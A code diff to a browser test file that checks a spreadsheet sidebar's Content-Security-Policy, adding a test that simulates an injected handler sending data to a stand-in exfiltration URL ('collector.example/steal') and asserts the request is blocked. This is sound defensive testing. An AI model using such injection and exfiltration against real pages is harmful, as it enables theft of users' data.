@@ -10,6 +10,7 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { DEMO_API_KEY } from "../../../src/sandbox/demo.js";
 import { OTHER_WORKBOOK } from "../../../src/sandbox/demo-workbook.js";
 import { type SpawnedSandbox, spawnSandbox } from "../../sandbox/spawn-sandbox.js";
+import { attemptInjection, cspViolations, recordCspViolations } from "../csp.js";
 import { callOk, cloneAcrossScriptRun, DIST, forwardTo, loadAppsScript, type World } from "./apps-script.js";
 
 const CHROMIUM_PATH = "/usr/bin/chromium";
@@ -68,6 +69,7 @@ async function openSidebar(): Promise<Page> {
     return JSON.stringify(cloneAcrossScriptRun(world.global[name](...JSON.parse(args))));
   });
   await page.addInitScript(FAKE_SCRIPT_RUN);
+  await recordCspViolations(page);
   page.on("pageerror", (e) => pageErrors.push(e.message));
   await page.goto(pathToFileURL(`${DIST}/Sidebar.html`).href);
   return page;
@@ -93,6 +95,25 @@ describe("Sidebar.html in Chromium over the built Code.js and the sandbox", () =
     if (process.env.SHEETS_SIDEBAR_SCREENSHOT)
       await page.screenshot({ path: process.env.SHEETS_SIDEBAR_SCREENSHOT });
     expect(pageErrors).toEqual([]);
+    // The page's Content-Security-Policy allowed everything the flow needed.
+    expect(await cspViolations(page)).toEqual([]);
+    await page.close();
+  });
+
+  it("its Content-Security-Policy is enforced: an injected handler does not run, no request leaves the page", async () => {
+    const page = await openSidebar();
+    // (The first test disconnected the placement; the pane has loaded once its heading is there.)
+    await page.getByRole("heading", { name: /Reports in this/ }).waitFor({ timeout: 15_000 });
+    const outcome = await attemptInjection(page, "https://collector.example/steal");
+    // 'unsafe-inline' is required for the inlined bundle, so an inline <script> element would run;
+    // what the policy stops is the request out, which is what would carry anything away.
+    expect(outcome.fetched).toBe(false);
+    const violations = await cspViolations(page);
+    expect(violations).toContainEqual({
+      directive: "connect-src",
+      blockedURI: "https://collector.example/steal",
+    });
+    expect(violations.map((v) => v.directive)).not.toContain("script-src-elem");
     await page.close();
   });
 });
